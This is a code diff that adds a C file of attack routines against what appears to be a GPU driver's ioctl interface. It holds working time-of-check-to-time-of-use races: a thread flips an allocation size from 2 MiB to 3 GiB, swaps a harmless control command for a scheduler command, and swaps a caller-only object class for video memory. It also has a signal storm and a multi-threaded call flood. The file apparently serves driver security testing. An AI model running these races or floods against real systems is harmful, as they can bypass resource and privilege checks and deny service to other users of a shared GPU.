@@ -1,0 +1,165 @@
+/* Structs that change while they are looked at, signals, floods. */
+#include "attack.h"
+
+#include <signal.h>
+#include <stdatomic.h>
+#include <sys/time.h>
+#include <time.h>
+
+static atomic_bool stop;
+
+struct flip {
+    volatile void *place;
+    uint64_t values[2];
+    bool is_long;
+};
+
+static void *flipping (void *argument)
+{
+    struct flip *flip = argument;
+
+    for (unsigned i = 0; !atomic_load (&stop); i++)
+        if (flip->is_long)
+            *(volatile uint64_t *) flip->place = flip->values[i & 1];
+        else
+            *(volatile uint32_t *) flip->place = (uint32_t) flip->values[i & 1];
+    return NULL;
+}
+
+/* size-race ROUNDS: asks for 2 MiB and means 3 GiB. */
+void attack_size_race (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    struct memory params = memory_of (2 * MIB);
+    struct flip flip = { &params.size, { 2 * MIB, 3 * GIB }, true };
+    unsigned given = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 500;
+    pthread_t thread;
+
+    pthread_create (&thread, NULL, flipping, &flip);
+    for (unsigned i = 0; i < rounds; i++) {
+        struct alloc call = { bed.client, bed.device, bed.next++, 0x40, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
+
+        given += ioctl (bed.file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
+    }
+    atomic_store (&stop, true);
+    pthread_join (thread, NULL);
+    say ("given", given);
+    hold ();
+}
+
+/* A harmless control that becomes one of the scheduler's. */
+void attack_command_race (int argc, char **argv)
+{
+    static uint8_t params[2][16384];
+    static const uint32_t harmless[][2] = { { 0x2080014a, 268 }, { 0x20801301, 16 }, { 0x3d08, 80 } };
+    struct bed bed = bed_open ();
+    unsigned made = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 500;
+
+    for (unsigned kind = 0; kind < 3; kind++) {
+        struct control call = { bed.client, kind == 2 ? bed.client : bed.subdevice, harmless[kind][0], 0,
+                                (uintptr_t) params[0], harmless[kind][1], 0xffff };
+        struct flip flip = { &call.command, { harmless[kind][0], 0x2080110b }, false };
+        pthread_t thread;
+
+        atomic_store (&stop, false);
+        pthread_create (&thread, NULL, flipping, &flip);
+        for (unsigned i = 0; i < rounds; i++)
+            made += ioctl (bed.file, REQUEST (0x2a, sizeof (call)), &call) == 0;
+        atomic_store (&stop, true);
+        pthread_join (thread, NULL);
+    }
+    say ("made", made);
+}
+
+/* A class that only the caller can make (an event), which becomes video memory. */
+void attack_class_race (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    struct memory params = memory_of (64 * MIB);
+    struct alloc call = { bed.client, bed.device, 0, 0x79, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
+    struct flip flip = { &call.number, { 0x79, 0x40 }, false };
+    unsigned given = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 2000;
+    pthread_t thread;
+
+    pthread_create (&thread, NULL, flipping, &flip);
+    for (unsigned i = 0; i < rounds; i++) {
+        call.object = bed.next++;
+        call.status = 0xffff;
+        given += ioctl (bed.file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
+    }
+    atomic_store (&stop, true);
+    pthread_join (thread, NULL);
+    say ("given", given);
+    hold ();
+    say ("more", bed_memory (&bed, &call.object, 9 * GIB));
+    hold ();
+}
+
+static volatile unsigned rang;
+
+static void ring (int number)
+{
+    (void) number;
+    rang++;
+}
+
+/* storm ROUNDS RESTART: allocates and frees while an alarm rings every 50 microseconds. */
+void attack_storm (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    struct sigaction action = { .sa_handler = ring, .sa_flags = argc > 1 && atoi (argv[1]) ? SA_RESTART : 0 };
+    struct itimerval often = { { 0, 50 }, { 0, 50 } }, never = { { 0, 0 }, { 0, 0 } };
+    unsigned bad = 0, interrupted = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 2000;
+
+    sigaction (SIGALRM, &action, NULL);
+    setitimer (ITIMER_REAL, &often, NULL);
+    for (unsigned i = 0; i < rounds; i++) {
+        struct memory params = memory_of (2 * MIB);
+        struct alloc call = { bed.client, bed.device, 0x5d000000, 0x40, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
+        struct release release = { bed.client, bed.device, 0x5d000000, 0xffff };
+        int result;
+
+        /* as libcuda does: what was interrupted is made again */
+        while ((result = ioctl (bed.file, REQUEST (0x2b, sizeof (call)), &call)) < 0 && (errno == EINTR || errno == EAGAIN))
+            interrupted++;
+        if (result != 0 || call.status != 0)
+            bad++, say ("alloc-result", (uint64_t) (result ? errno : 0)), say ("alloc-status", call.status);
+        while ((result = ioctl (bed.file, REQUEST (0x29, sizeof (release)), &release)) < 0 && (errno == EINTR || errno == EAGAIN))
+            interrupted++;
+        if (result != 0 || release.status != 0)
+            bad++, say ("free-result", (uint64_t) (result ? errno : 0)), say ("free-status", release.status);
+    }
+    setitimer (ITIMER_REAL, &never, NULL);
+    say ("bad", bad);
+    say ("interrupted", interrupted);
+    say ("rang", rang);
+    hold ();
+}
+
+static struct bed flooded;
+
+static void *flooding (void *argument)
+{
+    uint8_t params[268] = { 0 };
+
+    (void) argument;
+    while (!atomic_load (&stop))
+        bed_control (&flooded, flooded.subdevice, 0x2080014a, params, sizeof (params));
+    return NULL;
+}
+
+/* flood THREADS: announces calls as fast as it can, until a line is said. */
+void attack_flood (int argc, char **argv)
+{
+    pthread_t threads[64];
+    int count = argc > 0 ? atoi (argv[0]) : 8;
+
+    flooded = bed_open ();
+    for (int i = 0; i < count && i < 64; i++)
+        pthread_create (&threads[i], NULL, flooding, NULL);
+    say ("flooding", (uint64_t) count);
+    hold ();
+    atomic_store (&stop, true);
+    for (int i = 0; i < count && i < 64; i++)
+        pthread_join (threads[i], NULL);
+}
